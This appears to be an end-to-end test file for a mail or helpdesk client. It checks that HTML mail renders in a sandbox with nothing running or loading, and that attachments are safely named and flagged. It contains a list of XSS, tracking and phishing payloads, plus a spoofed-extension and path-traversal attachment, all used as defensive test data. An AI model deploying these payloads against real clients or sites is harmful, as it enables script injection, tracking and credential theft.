// What belongs to a mail: its own look, in which nothing runs or loads (P0-2), and its files.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import test, { after, before } from "node:test";
import { until } from "../../e2e/harness/until.mjs";
import { House } from "../harness/house.mjs";

const SHELL = JSON.parse(readFileSync(new URL("../../../src-tauri/tauri.conf.json", import.meta.url), "utf8"));
/** Where the mail would load from and tell: somebody listens there. */
const asked = [];
const elsewhere = createServer((request, answer) => {
  asked.push(request.url);
  answer.end();
});
await new Promise((up) => elsewhere.listen(0, "127.0.0.1", up));
const ELSEWHERE = `127.0.0.1:${elsewhere.address().port}`;
const FLAG = "parent.document.title='ran';top.ran=1;window.ran=1";
// Read first what people write: what is not closed swallows all behind it.
const HOSTILE = [
  `<p style="color:#a00000">In my colour</p><a href="https://www.shop.example/pay?a=1">Pay here</a> <a href="http://${ELSEWHERE}/x">www.bank.example</a>`,
  `<script>${FLAG}</script><script src="http://${ELSEWHERE}/1.js"></script>`,
  `<img src="http://${ELSEWHERE}/2.png" onerror="${FLAG}"><img src=x onerror="${FLAG}">`,
  `<svg onload="${FLAG}"><script>${FLAG}</script><image href="http://${ELSEWHERE}/3.png"/></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror="${FLAG}">`,
  `<iframe src="http://${ELSEWHERE}/4"></iframe><iframe srcdoc="<script>${FLAG}</script>"></iframe>`,
  `<object data="http://${ELSEWHERE}/5"></object><embed src="http://${ELSEWHERE}/6"><video src="http://${ELSEWHERE}/7" poster="http://${ELSEWHERE}/8" autoplay></video>`,
  `<link rel="stylesheet" href="http://${ELSEWHERE}/9.css"><link rel="prefetch" href="http://${ELSEWHERE}/10"><style>@import "http://${ELSEWHERE}/11.css"; body{background:url(http://${ELSEWHERE}/12.png)}</style>`,
  `<div style="background:url(http://${ELSEWHERE}/13.png)">x</div><table background="http://${ELSEWHERE}/14.png"><tr><td>x</td></tr></table>`,
  `<meta http-equiv="refresh" content="0;url=http://${ELSEWHERE}/15"><base href="http://${ELSEWHERE}/">`,
  `<form action="http://${ELSEWHERE}/16"><input name="password" autofocus onfocus="${FLAG}"><button>Sign in</button></form>`,
  `<body onload="${FLAG}"><details open ontoggle="${FLAG}">x</details><marquee onstart="${FLAG}">x</marquee>`,
  `<a href="javascript:${FLAG}">Run</a><a href="data:text/html,<script>${FLAG}</script>">Data</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${FLAG}>">`,
];

const BASE64 = (bytes) => Buffer.from(bytes).toString("base64");
const file = (name, bytes) =>
  `--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="=?utf-8?B?${BASE64(name)}?="\r\nContent-Transfer-Encoding: base64\r\n\r\n${BASE64(bytes)}\r\n`;
const PICTURE = Buffer.from([0xff, 0xd8, 0xff, 0, 1, 2]);
const MAIL = [
  'From: "Mallory" <mallory@evil.example>',
  "To: help@daehwa.example",
  "Subject: A mail with a look of its own",
  "Message-ID: <1@evil.example>",
  "MIME-Version: 1.0",
  "Content-Type: multipart/mixed; boundary=b",
  "",
  "--b",
  "Content-Type: multipart/alternative; boundary=c",
  "",
  "--c",
  "Content-Type: text/plain; charset=utf-8",
  "",
  "The words alone",
  "--c",
  "Content-Type: text/html; charset=utf-8",
  "",
  `<html>${HOSTILE.join("\r\n")}</html>`,
  "--c--",
  `${file("../../견적서.jpg", PICTURE)}${file("invoice\u202efdp.exe", "MZ")}${file("all.zip", "PK")}--b--`,
  "",
].join("\r\n");

let house;
let agent;
let id;
before(async () => {
  house = await House.open();
  await house.centre.mail("mail", [MAIL]);
  agent = await house.agent("agent1");
  const context = agent.page.context();
  context.on("page", (page) => asked.push(`a window: ${page.url()}`));
  agent.page.on("dialog", (dialog) => {
    asked.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  // The screens as the shell serves them: under its policy.
  await agent.page.route("**/*", async (route) => {
    if (route.request().resourceType() !== "document") return route.fallback();
    const { "connect-src": _, "frame-ancestors": __, ...policy } = SHELL.app.security.csp;
    const directives = Object.entries({ ...policy, "connect-src": "'self'" }).map(([name, value]) => `${name} ${value}`);
    const answer = await route.fetch();
    return route.fulfill({ response: answer, headers: { ...answer.headers(), "content-security-policy": directives.join("; ") } });
  });
  await agent.page.reload();
  await agent.page.getByRole("main").waitFor();
  const { rows } = await agent.seat.command("inbox", { whose: "all", channel: "email", shelf: "open", from: 0, count: 500 });
  id = rows.find((it) => it.name === "Mallory").id;
  await openFromInbox();
});
after(async () => {
  await house?.close();
  elsewhere.close();
});

async function openFromInbox() {
  const at = (await agent.seat.command("inbox", { whose: "all", channel: null, shelf: "open", from: 0, count: 500 })).rows.findIndex((it) => it.id === id);
  await agent.press("i");
  await agent.dialog("inbox.title").getByRole("listbox", { name: agent.text("inbox.listKeys") }).waitFor();
  await until("the list has the focus", () => agent.page.evaluate(() => document.activeElement?.getAttribute("role") === "listbox"));
  for (let step = 0; step < at; step++) await agent.press("j");
  await agent.press("Enter");
  await messages().getByText("The words alone").waitFor();
  await agent.page.getByRole("tab", { name: agent.text("inbox.conversation"), selected: true }).focus();
}

const messages = () => agent.page.getByRole("log", { name: agent.text("inbox.messages") });
const frame = () => messages().locator(`iframe[title="${agent.text("mail.title")}"]`);
const save = (name, what = "file.save") => messages().getByRole("button", { name: `${agent.text(what)}: ${name}`, exact: true });

async function nothingActed() {
  // Drawn twice, nothing left to do, and asked the desk once more: whatever would have begun by itself has begun.
  await agent.page.evaluate(() => new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted))));
  await agent.page.evaluate(() => new Promise((idle) => requestIdleCallback(idle)));
  await agent.seat.command("snapshot");
  assert.deepEqual(asked, []);
  assert.equal(await agent.page.evaluate(() => globalThis.ran ?? null), null, "a script of the mail ran");
  assert.notEqual(await agent.page.title(), "ran");
}

test("a mail is shown in its own look by a key, and nothing of it runs or loads P0-2", async () => {
  assert.equal(await frame().count(), 0, "words come first");
  await agent.press("h");
  const page = frame().contentFrame();
  await page.getByText("In my colour").waitFor();
  assert.equal(await frame().getAttribute("sandbox"), "");
  const colour = await page.getByText("In my colour").evaluate((it) => getComputedStyle(it).color);
  assert.equal(colour, "rgb(160, 0, 0)");
  assert.equal(await page.locator("body").evaluate((it) => getComputedStyle(it).backgroundColor), "rgb(255, 255, 255)");
  await nothingActed();
  await page.getByText("Pay here").click();
  await nothingActed();
  await agent.accessible("a mail in its own look");
});

test("links are copied, not followed, and one that says another place is told", async () => {
  await messages().getByText("2 links", { exact: true }).click();
  await messages().getByText("https://www.shop.example/pay?a=1").waitFor();
  assert.equal(await messages().getByText(agent.text("mail.deceives")).count(), 1);
  await agent.accessible("the links of a mail");
  await agent.press("h");
  await until("the words are there again", async () => (await frame().count()) === 0 || null);
});

test("even a page that nobody cleaned does nothing in the frame P0-2", async () => {
  const page = `<!doctype html><html><head></head>${HOSTILE.join("")}<p>Not cleaned</p></html>`;
  const open = await house.browser.newPage();
  await open.setContent(`<img src="http://${ELSEWHERE}/heard">`);
  await until("whoever listens would hear", () => asked.splice(0).includes("/heard") || null);
  await open.close();
  await agent.page.route("**/api/message_page", (route) => route.fulfill({ json: page }));
  await agent.press("h");
  await frame().contentFrame().getByText("In my colour").waitFor();
  await nothingActed();
  await agent.page.unroute("**/api/message_page");
  await agent.press("h");
});

test("files are saved under a name that hides nothing, and what could do harm is asked about", async () => {
  const [saved] = await Promise.all([agent.page.waitForEvent("download"), save("견적서.jpg").click()]);
  assert.equal(saved.suggestedFilename(), "견적서.jpg");
  assert.deepEqual(readFileSync(await saved.path()), PICTURE);
  await messages().getByText(agent.text("file.saved")).waitFor();
  await save("invoicefdp.exe").click();
  await messages().getByText(agent.text("file.risk.program")).waitFor();
  await agent.accessible("a file that could do harm");
  const [program] = await Promise.all([agent.page.waitForEvent("download"), agent.button("file.saveAllTheSame").click()]);
  assert.equal(program.suggestedFilename(), "invoicefdp.exe");
  await save("all.zip").click();
  await messages().getByText(agent.text("file.risk.archive")).waitFor();
  await agent.button("common.cancel").click();
});

test("files that are chosen, dropped and pasted go with the answer, with copies, over a reload and without the server", async () => {
  const chooser = () => agent.page.locator("form input[type=file]");
  const files = () => agent.page.getByRole("list", { name: agent.text("enclosed.files") });
  const copies = () => agent.page.getByRole("textbox", { name: agent.text("enclosed.cc"), exact: true });
  const words = () => agent.page.getByRole("textbox", { name: agent.text("reply.label"), exact: true });
  await chooser().setInputFiles([
    { name: "견적서.pdf", mimeType: "application/pdf", buffer: PICTURE },
    { name: "wrong.txt", mimeType: "text/plain", buffer: Buffer.from("x") },
  ]);
  await files().getByText("wrong.txt").waitFor();
  for (const kind of ["drop", "paste"]) {
    await words().evaluate((box, kind) => {
      const held = new DataTransfer();
      held.items.add(new File(["by hand"], `${kind}.txt`, { type: "text/plain" }));
      const how = { bubbles: true, cancelable: true };
      const event =
        kind === "drop" ? new DragEvent(kind, { ...how, dataTransfer: held }) : new ClipboardEvent(kind, { ...how, clipboardData: held });
      box.dispatchEvent(event);
    }, kind);
    await files().getByText(`${kind}.txt`).waitFor();
  }
  await agent.page.getByRole("button", { name: agent.text("enclosed.takeOut").replace("{name}", "wrong.txt") }).click();
  await copies().fill("lee@example.com, nobody");
  await agent.accessible("files and copies of an answer");
  await agent.page.reload();
  await agent.page.getByRole("main").waitFor();
  await openFromInbox();
  await files().getByText("paste.txt").waitFor();
  assert.deepEqual(await files().getByRole("listitem").count(), 3);
  assert.equal(await copies().inputValue(), "lee@example.com, nobody");
  await words().fill("Here is our quote");
  await words().press("Control+Enter");
  await agent.page.getByText(agent.text("error.bad_address")).waitFor();
  await house.centre.stop();
  await agent.page.getByText(agent.text("sync.offline"), { exact: true }).waitFor();
  await copies().fill("lee@example.com");
  await words().press("Control+Enter");
  await messages().getByText("Here is our quote").waitFor();
  await messages().getByText(agent.text("message.cc").replace("{cc}", "lee@example.com")).waitFor();
  await house.centre.start();
  const waits = async () => (await agent.seat.command("conversation", id)).messages.at(-1).files_waiting === 0;
  await until("the server has the files", waits);
  const [saved] = await Promise.all([agent.page.waitForEvent("download"), save("견적서.pdf").click()]);
  assert.deepEqual(readFileSync(await saved.path()), PICTURE);
});

test("without the server the words stay, and both say what to do", async () => {
  await house.centre.stop();
  await agent.page.getByText(agent.text("sync.offline"), { exact: true }).waitFor();
  await agent.press("h");
  await messages().getByText(agent.text("mail.needsServer")).waitFor();
  await messages().getByText("The words alone").waitFor();
  await save("견적서.jpg").click();
  await messages().getByText(agent.text("file.needsServer")).waitFor();
  await agent.accessible("a mail without the server");
  await house.centre.start();
  await frame().contentFrame().getByText("In my colour").waitFor();
  await nothingActed();
});
